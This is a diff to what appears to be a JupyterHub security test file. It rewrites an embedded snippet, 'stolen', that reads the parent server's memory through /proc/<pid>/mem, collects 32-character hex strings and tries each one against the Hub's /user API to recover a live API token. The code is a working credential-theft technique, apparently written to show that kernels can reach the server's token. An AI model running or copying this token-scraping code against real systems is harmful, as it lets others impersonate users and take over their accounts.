@@ -101,28 +101,38 @@ def hunt():
 print(json.dumps({"found": sorted(hunt()), "seen": SEEN}))
 """
 STOLEN = r"""
-import os, re
-def stolen():
-    # The word is put together here, or it would be found in what the server passed on as this cell.
-    wanted = re.compile(b"JUPYTERHUB_API_" + b"TOKEN=([0-9a-f]{32})")
-    server = os.getppid()
-    with open(f"/proc/{server}/maps") as maps, open(f"/proc/{server}/mem", "rb", buffering=0) as memory:
+import os, re, urllib.error, urllib.request
+def good(token):
+    headers = {"Authorization": "token " + token}
+    asked = urllib.request.Request(os.environ["JUPYTERHUB_API_URL"] + "/user", headers=headers)
+    try:
+        with urllib.request.urlopen(asked, timeout=20) as answer:
+            return b'"kind": "user"' in answer.read()
+    except urllib.error.HTTPError:
+        return False
+def candidates(pid):
+    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", buffering=0) as memory:
         for line in maps:
             span, modes = line.split()[:2]
             low, high = (int(end, 16) for end in span.split("-"))
             if "w" in modes:
                 try:
                     memory.seek(low)
-                    found = wanted.search(memory.read(high - low))
+                    yield from re.findall(rb"(?<![0-9a-f])[0-9a-f]{32}(?![0-9a-f])", memory.read(high - low))
                 except (OSError, OverflowError):
                     continue
-                if found:
-                    return found[1].decode()
+def stolen():
+    tried = set()
+    for each in candidates(os.getppid()):
+        if each not in tried and len(tried) < 500:
+            tried.add(each)
+            if good(each.decode()):
+                return each.decode()
     return ""
 """
-"""Defines `stolen`, which reads the Hub's token of a lab in its server's memory: at T1 they have one user id.
+"""Defines `stolen`, which finds a lab's token of the Hub in its server's memory: at T1 the kernel has the same user id.
 
-So the token counts as the member's, and of anything that runs in the member's kernel (docs/security.md).
+So the token counts as the member's, and as that of anything that runs in the member's kernel.
 """
 
 PLACES = ("/home", "/tmp", "/links", "/in", "/out", "/dev/shm", "/etc", "/mirror", "/run", "/var")
